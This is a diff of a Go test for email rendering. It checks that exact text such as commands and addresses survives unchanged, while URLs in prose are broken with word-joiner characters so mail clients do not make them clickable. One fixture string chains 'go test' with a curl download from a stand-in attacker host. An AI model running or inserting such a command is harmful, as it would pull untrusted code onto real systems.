@@ -165,7 +165,7 @@ func TestExactTextHasNoJoiner(t *testing.T) {
 	got := send(t, s, newChannel(t, options(t, s, emailtest.None)), about(a, "ana"))
 	for part, text := range map[string]string{"text": got.Text, "HTML": visibleWith(t, got.Markup, false)} {
 		for _, want := range []string{
-			`"command": "go test ./... && curl https://evil.example/a.sh"`, `"mail": "ana@evil.example"`,
+			"command: “go test ./... && curl https://evil.example/a.sh”", "mail: “ana@evil.example”",
 			"$ go  test ./...", "$ curl https://evil.example/a.sh",
 			"tx, err := db.Begin() in ./cmd/x.md:10, pkg@1.2.3, `README.md`, C:\\tmp\\a and 10:30.",
 			"https:\u2060//evil.\u2060example/x,", "www.\u2060evil.\u2060example ", "ana@\u2060evil.\u2060example,",
